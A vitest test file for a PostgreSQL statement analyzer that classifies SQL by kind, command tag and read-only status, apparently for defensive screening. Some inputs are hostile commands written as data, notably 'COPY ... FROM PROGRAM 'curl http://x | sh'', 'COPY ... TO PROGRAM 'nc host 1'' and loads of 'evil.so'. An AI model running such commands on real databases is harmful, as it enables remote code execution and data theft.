// Procedural code, CALL, COPY, SET/RESET, privileges, DDL, utilities, transactions, command tags.
import { describe, expect, test } from 'vitest';
import { fallbackTag } from './command-tag.js';
import { emptyFacts } from './facts.js';
import { FP, one } from './analyze.fixtures.js';

const t = (name: string, access: string, schema: string | null = null) => ({ schema, name, access });
const fn = (name: string, schema: string | null = null) => ({ schema, name });
const ddlOp = (command: string, name: string | null = null, schema: string | null = null) => ({
  kind: 'ddl',
  table: name === null ? null : { schema, name },
  has_where: false,
  command,
});

describe('procedural code', () => {
  test('DO: kind procedural, language and body, no operations', () => {
    const sql = 'DO $$ BEGIN DELETE FROM t; END $$';
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'procedural',
      command_tag: 'DO',
      read_only: false,
      procedural: { language: 'plpgsql', body: ' BEGIN DELETE FROM t; END ' },
      utility: 'DO',
    });
  });

  test('DO with an explicit language', () => {
    expect(one("DO LANGUAGE plpython3u 'import os'").procedural).toEqual({ language: 'plpython3u', body: 'import os' });
  });

  test('CREATE FUNCTION: procedural, ddl operation, body opaque (not analysed)', () => {
    const sql = "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'";
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'procedural',
      command_tag: 'CREATE FUNCTION',
      operations: [ddlOp('CREATE FUNCTION')],
      read_only: false,
      procedural: { language: 'sql', body: 'DELETE FROM t RETURNING 1' },
      utility: 'CREATE FUNCTION',
    });
  });

  test('CREATE OR REPLACE FUNCTION / PROCEDURE, C functions, BEGIN ATOMIC bodies', () => {
    expect(one('CREATE OR REPLACE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$')).toMatchObject({
      kind: 'procedural',
      command_tag: 'CREATE FUNCTION',
      procedural: { language: 'plpgsql', body: ' BEGIN RETURN NEW; END ' },
    });
    expect(one('CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$')).toMatchObject({
      kind: 'procedural',
      command_tag: 'CREATE PROCEDURE',
      operations: [ddlOp('CREATE PROCEDURE')],
    });
    expect(one("CREATE FUNCTION f(int) RETURNS int LANGUAGE c AS 'evil.so', 'sym'").procedural).toEqual({ language: 'c', body: 'evil.so\nsym' });
    const atomic = one('CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END');
    expect(atomic).toMatchObject({ kind: 'procedural', procedural: { language: 'sql', body: null }, tables: [], operations: [ddlOp('CREATE FUNCTION')] });
  });

  test('CALL: the procedure (schema kept) and functions in its arguments', () => {
    expect(one('CALL s.p(1, now(), lower($2))')).toEqual({
      ...emptyFacts('CALL s.p(1, now(), lower($2))'),
      fingerprint: FP,
      kind: 'call',
      command_tag: 'CALL',
      functions: [fn('p', 's'), fn('now'), fn('lower')],
      read_only: false,
      param_count: 2,
      utility: 'CALL',
    });
  });
});

describe('COPY', () => {
  test('COPY t FROM STDIN: copy_from, table written', () => {
    const sql = 'COPY t FROM STDIN WITH (FORMAT csv)';
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'copy_from',
      command_tag: 'COPY',
      tables: [t('t', 'write')],
      operations: [{ kind: 'copy_from', table: { schema: null, name: 't' }, has_where: false }],
      read_only: false,
      copy: { direction: 'from', program: false, target: null, stdio: true, format: 'csv', relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null },
      utility: 'COPY',
    });
  });

  test('COPY t TO STDOUT: copy_to, table read, read-only', () => {
    expect(one('COPY s.t (a, b) TO STDOUT')).toMatchObject({
      kind: 'copy_to',
      tables: [t('t', 'read', 's')],
      columns: [
        { table: 't', name: 'a' },
        { table: 't', name: 'b' },
      ],
      operations: [],
      read_only: true,
      copy: { direction: 'to', program: false, target: null, stdio: true, format: null, relation: { schema: 's', name: 't' }, columns: ['a', 'b'] },
    });
  });

  test('COPY options masking needs to find fields: delimiter, null, quote, escape, header', () => {
    expect(one("COPY t TO STDOUT WITH (FORMAT csv, DELIMITER ';', NULL 'NA', QUOTE '\"', ESCAPE '\\', HEADER)").copy).toMatchObject({
      format: 'csv',
      delimiter: ';',
      null_string: 'NA',
      quote: '"',
      escape: '\\',
      header: true,
    });
    expect(one('COPY t TO STDOUT WITH (FORMAT csv, HEADER false)').copy?.header).toBe(false);
  });

  test('COPY (query) TO STDOUT reads the query tables', () => {
    expect(one('COPY (SELECT a, f(b) FROM t JOIN u USING (id)) TO STDOUT BINARY')).toMatchObject({
      kind: 'copy_to',
      tables: [t('t', 'read'), t('u', 'read')],
      functions: [fn('f')],
      read_only: true,
      copy: { direction: 'to', stdio: true, format: 'binary', relation: null, columns: null },
    });
  });

  test('COPY (DELETE ... RETURNING) TO STDOUT deletes: kind delete', () => {
    expect(one('COPY (DELETE FROM t RETURNING *) TO STDOUT')).toMatchObject({
      kind: 'delete',
      operations: [{ kind: 'delete', table: { schema: null, name: 't' }, has_where: false }],
      read_only: false,
      copy: { direction: 'to' },
    });
  });

  test('PROGRAM and server files', () => {
    expect(one("COPY t FROM PROGRAM 'curl http://x | sh'").copy).toEqual({ direction: 'from', program: true, target: 'curl http://x | sh', stdio: false, format: null, relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
    const toProgram = one("COPY t TO PROGRAM 'nc host 1'");
    expect(toProgram.copy).toEqual({ direction: 'to', program: true, target: 'nc host 1', stdio: false, format: null, relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
    expect(toProgram.read_only).toBe(false);
    expect(one("COPY t FROM '/var/lib/x.csv' WITH (FORMAT csv)").copy).toEqual({ direction: 'from', program: false, target: '/var/lib/x.csv', stdio: false, format: 'csv', relation: { schema: null, name: 't' }, columns: null, delimiter: null, null_string: null, quote: null, escape: null, header: null });
    expect(one("COPY t TO '/tmp/out'")).toMatchObject({ kind: 'copy_to', read_only: false, copy: { target: '/tmp/out', stdio: false } });
  });
});

describe('SET / RESET', () => {
  test('SET ROLE: set_role', () => {
    expect(one('SET ROLE admin')).toEqual({
      ...emptyFacts('SET ROLE admin'),
      fingerprint: FP,
      kind: 'set_role',
      command_tag: 'SET',
      read_only: false,
      set: { name: 'role', value: 'admin', reset: false, local: false },
      utility: 'SET',
    });
  });

  test('SET LOCAL ROLE, SET SESSION AUTHORIZATION, RESET ROLE, RESET SESSION AUTHORIZATION, RESET ALL', () => {
    expect(one('SET LOCAL ROLE x')).toMatchObject({ kind: 'set_role', set: { name: 'role', value: 'x', reset: false, local: true } });
    expect(one("SET SESSION AUTHORIZATION 'bob'")).toMatchObject({ kind: 'set_role', set: { name: 'session_authorization', value: 'bob', reset: false } });
    expect(one('SET SESSION AUTHORIZATION DEFAULT')).toMatchObject({ kind: 'set_role', set: { name: 'session_authorization', value: null, reset: true } });
    expect(one('RESET ROLE')).toMatchObject({ kind: 'set_role', command_tag: 'RESET', set: { name: 'role', value: null, reset: true, local: false } });
    expect(one('RESET SESSION AUTHORIZATION')).toMatchObject({ kind: 'set_role', command_tag: 'RESET', set: { name: 'session_authorization', reset: true } });
    expect(one('RESET ALL')).toMatchObject({ kind: 'set_role', command_tag: 'RESET', read_only: false, set: { name: 'all', value: null, reset: true } });
  });

  test('other settings: kind set', () => {
    expect(one('SET search_path TO a, b')).toMatchObject({ kind: 'set', command_tag: 'SET', read_only: true, set: { name: 'search_path', value: null, reset: false, local: false } });
    expect(one('SET statement_timeout = 0').set).toEqual({ name: 'statement_timeout', value: '0', reset: false, local: false });
    expect(one("SET LOCAL TIME ZONE 'UTC'").set).toEqual({ name: 'timezone', value: 'UTC', reset: false, local: true });
    expect(one('RESET work_mem')).toMatchObject({ kind: 'set', command_tag: 'RESET', set: { name: 'work_mem', value: null, reset: true } });
    expect(one('SET Search_Path = public').set?.name).toBe('search_path');
  });

  test('settings that lift read-only mode or skip triggers are not read-only', () => {
    expect(one('SET default_transaction_read_only = off')).toMatchObject({ kind: 'set', read_only: false });
    expect(one("SET session_replication_role = 'replica'")).toMatchObject({ kind: 'set', read_only: false });
    expect(one('SET TRANSACTION READ WRITE')).toMatchObject({ kind: 'set', read_only: false, set: { name: 'transaction' } });
    expect(one('SET TRANSACTION READ ONLY').read_only).toBe(true);
    expect(one('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE').read_only).toBe(false);
  });

  test('SHOW is a read', () => {
    expect(one('SHOW search_path')).toMatchObject({ kind: 'select', command_tag: 'SHOW', utility: 'SHOW', read_only: true });
  });

  test('set_config in a SELECT is a select calling set_config', () => {
    expect(one("SELECT set_config('role', 'x', false)")).toMatchObject({ kind: 'select', set: null, functions: [fn('set_config')] });
  });
});

describe('privileges', () => {
  test('GRANT ON TABLE: privilege, tables with access ddl', () => {
    const sql = 'GRANT SELECT, UPDATE ON TABLE s.t, u TO bob';
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'privilege',
      command_tag: 'GRANT',
      tables: [t('t', 'ddl', 's'), t('u', 'ddl')],
      read_only: false,
      utility: 'GRANT',
    });
  });

  test('REVOKE, role grants, role statements, default privileges, REASSIGN OWNED', () => {
    const cases: [string, string][] = [
      ['REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', 'REVOKE'],
      ['GRANT admin TO bob', 'GRANT ROLE'],
      ['REVOKE admin FROM bob', 'REVOKE ROLE'],
      ['CREATE ROLE r LOGIN SUPERUSER', 'CREATE ROLE'],
      ["CREATE USER u PASSWORD 'x'", 'CREATE ROLE'],
      ['CREATE GROUP g', 'CREATE ROLE'],
      ['ALTER ROLE r SUPERUSER', 'ALTER ROLE'],
      ['ALTER USER r SET search_path = x', 'ALTER ROLE'],
      ['DROP ROLE r', 'DROP ROLE'],
      ['DROP USER IF EXISTS r', 'DROP ROLE'],
      ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'ALTER DEFAULT PRIVILEGES'],
      ['REASSIGN OWNED BY a TO b', 'REASSIGN OWNED'],
      ['DROP OWNED BY a', 'DROP OWNED'],
    ];
    for (const [sql, tag] of cases) {
      expect(one(sql), sql).toMatchObject({ kind: 'privilege', command_tag: tag, utility: tag, read_only: false, tables: [], operations: [] });
    }
  });

  test('ALTER ... OWNER TO is DDL', () => {
    expect(one('ALTER TABLE t OWNER TO bob')).toMatchObject({ kind: 'ddl', command_tag: 'ALTER TABLE', tables: [t('t', 'ddl')], operations: [ddlOp('ALTER TABLE', 't')] });
    expect(one('ALTER SCHEMA s OWNER TO bob')).toMatchObject({ kind: 'ddl', command_tag: 'ALTER SCHEMA', tables: [], operations: [ddlOp('ALTER SCHEMA')] });
  });
});

describe('DDL', () => {
  test('CREATE TABLE: functions in DEFAULT and CHECK, referenced and LIKE tables read', () => {
    const sql = "CREATE TABLE s.t (a int DEFAULT nextval('q'), b text CHECK (length(b) > f()), c int REFERENCES o(id), LIKE tmpl)";
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'ddl',
      command_tag: 'CREATE TABLE',
      tables: [t('t', 'ddl', 's'), t('o', 'read'), t('tmpl', 'read')],
      columns: [{ table: null, name: 'b' }],
      functions: [fn('nextval'), fn('length'), fn('f')],
      operations: [ddlOp('CREATE TABLE', 't', 's')],
      read_only: false,
      utility: 'CREATE TABLE',
    });
  });

  test('ALTER TABLE ADD COLUMN ... DEFAULT f()', () => {
    expect(one('ALTER TABLE t ADD COLUMN c timestamptz DEFAULT clock_timestamp()')).toMatchObject({
      kind: 'ddl',
      command_tag: 'ALTER TABLE',
      tables: [t('t', 'ddl')],
      functions: [fn('clock_timestamp')],
      operations: [ddlOp('ALTER TABLE', 't')],
    });
  });

  test('CREATE VIEW: view ddl, sources read', () => {
    expect(one('CREATE VIEW v AS SELECT a FROM t JOIN u ON t.id = u.id')).toMatchObject({
      kind: 'ddl',
      command_tag: 'CREATE VIEW',
      tables: [t('v', 'ddl'), t('t', 'read'), t('u', 'read')],
      operations: [ddlOp('CREATE VIEW', 'v')],
      read_only: false,
    });
  });

  test('CREATE TABLE AS, SELECT INTO, CREATE MATERIALIZED VIEW: new table ddl, sources read', () => {
    expect(one('CREATE TABLE n AS SELECT * FROM t')).toMatchObject({
      kind: 'ddl',
      command_tag: 'CREATE TABLE AS',
      tables: [t('t', 'read'), t('n', 'ddl')],
      operations: [ddlOp('CREATE TABLE AS', 'n')],
    });
    expect(one('SELECT * INTO n FROM t WHERE a = 1')).toMatchObject({
      kind: 'ddl',
      command_tag: 'SELECT INTO',
      utility: 'SELECT INTO',
      tables: [t('n', 'ddl'), t('t', 'read')],
      operations: [ddlOp('SELECT INTO', 'n')],
      read_only: false,
    });
    expect(one('CREATE MATERIALIZED VIEW mv AS SELECT 1').command_tag).toBe('CREATE MATERIALIZED VIEW');
  });

  test('DROP takes its tag from the object type; relations are reported', () => {
    expect(one('DROP TABLE a.b, c CASCADE')).toMatchObject({
      kind: 'ddl',
      command_tag: 'DROP TABLE',
      tables: [t('b', 'ddl', 'a'), t('c', 'ddl')],
      operations: [ddlOp('DROP TABLE', 'b', 'a'), ddlOp('DROP TABLE', 'c')],
    });
    expect(one('DROP INDEX i').command_tag).toBe('DROP INDEX');
    expect(one('DROP VIEW v').tables).toEqual([t('v', 'ddl')]);
    expect(one('DROP MATERIALIZED VIEW mv').command_tag).toBe('DROP MATERIALIZED VIEW');
    expect(one('DROP SCHEMA s CASCADE')).toMatchObject({ command_tag: 'DROP SCHEMA', tables: [], operations: [ddlOp('DROP SCHEMA')] });
    expect(one('DROP FUNCTION f(int)')).toMatchObject({ command_tag: 'DROP FUNCTION', tables: [] });
  });

  test('TRUNCATE: ddl kind, truncate operations, tables ddl and write', () => {
    const sql = 'TRUNCATE a, s.b';
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'ddl',
      command_tag: 'TRUNCATE TABLE',
      tables: [t('a', 'ddl'), t('a', 'write'), t('b', 'ddl', 's'), t('b', 'write', 's')],
      operations: [
        { kind: 'truncate', table: { schema: null, name: 'a' }, has_where: false },
        { kind: 'truncate', table: { schema: 's', name: 'b' }, has_where: false },
      ],
      read_only: false,
      utility: 'TRUNCATE TABLE',
    });
  });

  test('COMMENT ON, ALTER TABLE RENAME, CREATE INDEX, CREATE SCHEMA, CREATE RULE', () => {
    expect(one("COMMENT ON TABLE s.t IS 'x'")).toMatchObject({ kind: 'ddl', command_tag: 'COMMENT', tables: [t('t', 'ddl', 's')], operations: [ddlOp('COMMENT', 't', 's')] });
    expect(one("COMMENT ON COLUMN s.t.c IS 'x'").tables).toEqual([t('t', 'ddl', 's')]);
    expect(one('ALTER TABLE t RENAME TO u')).toMatchObject({ kind: 'ddl', command_tag: 'ALTER TABLE', tables: [t('t', 'ddl')] });
    expect(one('ALTER TABLE t RENAME COLUMN a TO b').command_tag).toBe('ALTER TABLE');
    expect(one('ALTER INDEX i RENAME TO j').command_tag).toBe('ALTER INDEX');
    expect(one('CREATE INDEX i ON t (lower(a)) WHERE g(b)')).toMatchObject({
      command_tag: 'CREATE INDEX',
      tables: [t('t', 'ddl')],
      functions: [fn('lower'), fn('g')],
    });
    expect(one('CREATE SCHEMA s')).toMatchObject({ kind: 'ddl', command_tag: 'CREATE SCHEMA', tables: [], operations: [ddlOp('CREATE SCHEMA')] });
    // A rule's actions run later: reported tables, no delete operation now.
    expect(one('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u')).toMatchObject({
      kind: 'ddl',
      tables: [t('t', 'ddl'), t('u', 'write')],
      operations: [ddlOp('CREATE RULE', 't')],
    });
  });
});

describe('utilities', () => {
  test('ALTER SYSTEM', () => {
    const sql = "ALTER SYSTEM SET shared_preload_libraries = 'evil'";
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'utility',
      command_tag: 'ALTER SYSTEM',
      read_only: false,
      set: { name: 'shared_preload_libraries', value: 'evil', reset: false, local: false },
      utility: 'ALTER SYSTEM',
    });
  });

  test('LOAD', () => {
    expect(one("LOAD '/tmp/evil.so'")).toMatchObject({ kind: 'utility', command_tag: 'LOAD', utility: 'LOAD', read_only: false });
  });

  test('CREATE EXTENSION: utility with a ddl operation', () => {
    const sql = 'CREATE EXTENSION IF NOT EXISTS dblink';
    expect(one(sql)).toEqual({
      ...emptyFacts(sql),
      fingerprint: FP,
      kind: 'utility',
      command_tag: 'CREATE EXTENSION',
      operations: [ddlOp('CREATE EXTENSION')],
      read_only: false,
      utility: 'CREATE EXTENSION',
    });
    expect(one('ALTER EXTENSION x UPDATE')).toMatchObject({ kind: 'utility', utility: 'ALTER EXTENSION', operations: [ddlOp('ALTER EXTENSION')] });
  });

  test('VACUUM, ANALYZE, LOCK report their tables; not read-only', () => {
    expect(one('VACUUM (FULL) t, s.u')).toMatchObject({ kind: 'utility', command_tag: 'VACUUM', tables: [t('t', 'read'), t('u', 'read', 's')], read_only: false });
    expect(one('ANALYZE t')).toMatchObject({ kind: 'utility', command_tag: 'ANALYZE', utility: 'ANALYZE', tables: [t('t', 'read')] });
    expect(one('LOCK TABLE t IN ACCESS EXCLUSIVE MODE')).toMatchObject({ kind: 'utility', command_tag: 'LOCK TABLE', tables: [t('t', 'read')], read_only: false });
  });

  test('CHECKPOINT, LISTEN, NOTIFY, UNLISTEN, DISCARD, SET CONSTRAINTS', () => {
    expect(one('CHECKPOINT')).toMatchObject({ kind: 'utility', command_tag: 'CHECKPOINT', read_only: false });
    expect(one('LISTEN ch')).toMatchObject({ kind: 'utility', command_tag: 'LISTEN', read_only: true });
    expect(one('UNLISTEN *')).toMatchObject({ kind: 'utility', command_tag: 'UNLISTEN', read_only: true });
    expect(one("NOTIFY ch, 'x'")).toMatchObject({ kind: 'utility', command_tag: 'NOTIFY', read_only: false });
    expect(one('DISCARD ALL')).toMatchObject({
      kind: 'utility',
      command_tag: 'DISCARD ALL',
      read_only: false,
      set: { name: 'all', value: null, reset: true, local: false },
    });
    expect(one('DISCARD TEMP')).toMatchObject({ command_tag: 'DISCARD TEMP', set: null });
    // Constraint names are RangeVars in the tree, but not tables.
    expect(one('SET CONSTRAINTS s.c DEFERRED')).toMatchObject({ kind: 'utility', command_tag: 'SET CONSTRAINTS', tables: [], read_only: true });
  });
});

describe('transactions', () => {
  test('transaction statements: kind transaction, read-only', () => {
    const cases: [string, string][] = [
      ['BEGIN', 'BEGIN'],
      ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'START TRANSACTION'],
      ['COMMIT', 'COMMIT'],
      ['END', 'COMMIT'],
      ['ROLLBACK', 'ROLLBACK'],
      ['ROLLBACK TO SAVEPOINT a', 'ROLLBACK'],
      ['SAVEPOINT a', 'SAVEPOINT'],
      ['RELEASE SAVEPOINT a', 'RELEASE'],
      ['BEGIN READ ONLY', 'BEGIN'],
    ];
    for (const [sql, tag] of cases) {
      expect(one(sql), sql).toMatchObject({ kind: 'transaction', command_tag: tag, utility: tag, read_only: true });
    }
  });

  test('two-phase commit and READ WRITE transactions are not read-only', () => {
    expect(one("PREPARE TRANSACTION 'x'")).toMatchObject({ kind: 'transaction', command_tag: 'PREPARE TRANSACTION', read_only: false });
    expect(one("COMMIT PREPARED 'x'")).toMatchObject({ kind: 'transaction', command_tag: 'COMMIT PREPARED', read_only: false });
    expect(one("ROLLBACK PREPARED 'x'")).toMatchObject({ command_tag: 'ROLLBACK PREPARED', read_only: false });
    expect(one('BEGIN READ WRITE')).toMatchObject({ kind: 'transaction', read_only: false });
  });
});

describe('command tags', () => {
  test('PostgreSQL tags for a range of statements', () => {
    const cases: [string, string][] = [
      ['SELECT 1', 'SELECT'],
      ['VALUES (1)', 'SELECT'],
      ['INSERT INTO t VALUES (1)', 'INSERT'],
      ['UPDATE t SET a = 1', 'UPDATE'],
      ['DELETE FROM t', 'DELETE'],
      ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'MERGE'],
      ['COPY t TO STDOUT', 'COPY'],
      ['CREATE TABLE t (a int)', 'CREATE TABLE'],
      ['CREATE TEMP TABLE t (a int)', 'CREATE TABLE'],
      ['ALTER TABLE t ADD COLUMN b int', 'ALTER TABLE'],
      ['ALTER VIEW v RENAME TO w', 'ALTER VIEW'],
      ['DROP TABLE t', 'DROP TABLE'],
      ['DROP SEQUENCE q', 'DROP SEQUENCE'],
      ['DROP TYPE ty', 'DROP TYPE'],
      ['DROP EXTENSION e', 'DROP EXTENSION'],
      ['DROP FOREIGN TABLE ft', 'DROP FOREIGN TABLE'],
      ['DROP TEXT SEARCH CONFIGURATION c', 'DROP TEXT SEARCH CONFIGURATION'],
      ['DROP SERVER s', 'DROP SERVER'],
      ['DROP DATABASE d', 'DROP DATABASE'],
      ['CREATE DATABASE d', 'CREATE DATABASE'],
      ['TRUNCATE t', 'TRUNCATE TABLE'],
      ['GRANT SELECT ON t TO u', 'GRANT'],
      ['REVOKE SELECT ON t FROM u', 'REVOKE'],
      ['SET x = 1', 'SET'],
      ['RESET x', 'RESET'],
      ['DO $$ $$', 'DO'],
      ['CALL p()', 'CALL'],
      ['EXPLAIN SELECT 1', 'EXPLAIN'],
      ['PREPARE p AS SELECT 1', 'PREPARE'],
      ['EXECUTE p', 'EXECUTE'],
      ['DEALLOCATE p', 'DEALLOCATE'],
      ['VACUUM', 'VACUUM'],
      ['ANALYZE', 'ANALYZE'],
      ['SHOW ALL', 'SHOW'],
      ['LISTEN c', 'LISTEN'],
      ['NOTIFY c', 'NOTIFY'],
      ['LOCK t', 'LOCK TABLE'],
      ['CREATE EXTENSION e', 'CREATE EXTENSION'],
      ["ALTER SYSTEM SET work_mem = '1MB'", 'ALTER SYSTEM'],
      ["LOAD 'x'", 'LOAD'],
      ['CREATE ROLE r', 'CREATE ROLE'],
      ['ALTER ROLE r NOLOGIN', 'ALTER ROLE'],
      ['DROP ROLE r', 'DROP ROLE'],
      ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'CREATE FUNCTION'],
      ['CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', 'CREATE PROCEDURE'],
      ['ALTER FUNCTION f() SECURITY DEFINER', 'ALTER FUNCTION'],
      ['CREATE SCHEMA s', 'CREATE SCHEMA'],
      ['CREATE INDEX i ON t (a)', 'CREATE INDEX'],
      ['CREATE VIEW v AS SELECT 1', 'CREATE VIEW'],
      ['CREATE SEQUENCE q', 'CREATE SEQUENCE'],
      ['CREATE TYPE e AS ENUM (\'a\')', 'CREATE TYPE'],
      ['CREATE AGGREGATE a (int) (sfunc = f, stype = int)', 'CREATE AGGREGATE'],
      ['CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION f()', 'CREATE TRIGGER'],
      ["COMMENT ON TABLE t IS 'x'", 'COMMENT'],
      ['DECLARE c CURSOR FOR SELECT 1', 'DECLARE CURSOR'],
      ['FETCH c', 'FETCH'],
      ['CLOSE c', 'CLOSE CURSOR'],
      ['DISCARD ALL', 'DISCARD ALL'],
      ['CHECKPOINT', 'CHECKPOINT'],
      ['REINDEX TABLE t', 'REINDEX'],
      ['CLUSTER t USING i', 'CLUSTER'],
      ['REFRESH MATERIALIZED VIEW mv', 'REFRESH MATERIALIZED VIEW'],
      ["CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p", 'CREATE SUBSCRIPTION'],
      ['CREATE PUBLICATION p FOR TABLE t', 'CREATE PUBLICATION'],
      ["IMPORT FOREIGN SCHEMA r FROM SERVER s INTO l", 'IMPORT FOREIGN SCHEMA'],
    ];
    for (const [sql, tag] of cases) expect(one(sql).command_tag, sql).toBe(tag);
  });

  test('non-DML statements carry their command name in utility; DML does not', () => {
    expect(one('SELECT 1').utility).toBeNull();
    expect(one('DELETE FROM t').utility).toBeNull();
    expect(one('CREATE TABLE t (a int)').utility).toBe('CREATE TABLE');
    expect(one('VACUUM t').utility).toBe('VACUUM');
  });

  test('a node type unknown to the analyzer gets a readable tag', () => {
    expect(fallbackTag('AlterFooBarStmt')).toBe('ALTER FOO BAR');
    expect(fallbackTag('CreateTSThingStmt')).toBe('CREATE TS THING');
  });
});
